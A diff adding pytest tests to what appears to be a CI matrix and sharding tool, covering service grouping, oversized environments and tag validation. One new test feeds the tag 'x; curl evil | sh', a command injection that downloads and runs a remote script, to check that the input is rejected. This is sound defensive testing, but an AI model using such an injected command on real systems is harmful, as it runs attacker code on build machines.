@@ -3,9 +3,11 @@ from __future__ import annotations
 import json
 from typing import Any
 
+import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
+from actions.errors import InputError, InvalidTagError
 from actions.layout import Layout, Snapshot
 from actions.matrix import MOST_ENTRIES, Per, difference, entries, fits, shards
 from actions.tagpath import TagPath
@@ -101,6 +103,10 @@ def test_a_matrix_can_be_narrowed_to_services() -> None:
 
 def test_a_file_for_each_service_is_compared_as_a_whole() -> None:
     layout = Layout(patterns=("{service}/{env}.yaml",), tag_path=TagPath.parse("image.tag"))
+    texts = {"api/dev.yaml": "image: {tag: x}", "web/dev.yaml": "image: {tag: x}"}
+    added = difference(layout.group(texts)["dev"], layout.group({"api/dev.yaml": texts["api/dev.yaml"]})["dev"])
+    assert added.changed == ("web",)
+    assert added.only(["web"]).files == {"web": "web/dev.yaml"}
     now, before = (
         layout.group({"api/dev.yaml": "image: {tag: x}", "web/dev.yaml": f"image: {{tag: x}}\nreplicas: {n}"})["dev"]
         for n in (2, 1)
@@ -139,6 +145,18 @@ def test_a_matrix_of_long_entries_is_split_before_its_count_says_so() -> None:
     assert not fits(matrix)
     assert len(shards(matrix, services=["a", "b"])) > 1
     assert shards(matrix, services=["a", "b"])[0]["service"] == "a,b"
+
+
+def test_an_environment_that_is_too_large_for_an_output_is_refused() -> None:
+    entry = {"env": "x", "tags": {f"service-{n}": A for n in range(9000)}}
+
+    with pytest.raises(InputError, match="environment 'x' alone is more"):
+        shards([entry], services=())
+
+
+def test_a_tag_that_is_none_does_not_reach_a_job() -> None:
+    with pytest.raises(InvalidTagError, match=r"in envs/dev\.json is not a tag"):
+        difference(env("dev", {"api": {"tag": "x; curl evil | sh"}}), None)
 
 
 def test_as_many_entries_as_github_takes_fit() -> None:
